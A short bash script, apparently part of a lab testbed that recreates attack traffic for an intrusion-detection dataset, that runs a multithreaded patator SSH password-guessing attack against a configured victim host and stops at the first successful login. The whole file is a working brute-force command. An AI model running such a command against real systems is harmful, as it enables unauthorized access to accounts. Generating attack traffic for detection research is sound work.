#!/usr/bin/env bash
# SSH password guessing with patator (as CIC did): one TCP connection per attempt, several threads,
# stops at the first success.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
wordlist="$TB_STATE/ssh-wordlist.txt"
tb_wordlist "$wordlist" "$TB_COUNT"
tb_run "$TB_NS" patator ssh_login host="$TB_VICTIM" user="$TB_USER" password=FILE0 0="$wordlist" \
  persistent=0 --threads=8 --max-retries=0 --timeout=10 -x ignore:mesg='Authentication failed.' \
  -x quit:code=0 > "$TB_STATE/patator-ssh.log" 2>&1 < <(sleep "$TB_SECONDS")  # patator spins on a closed stdin
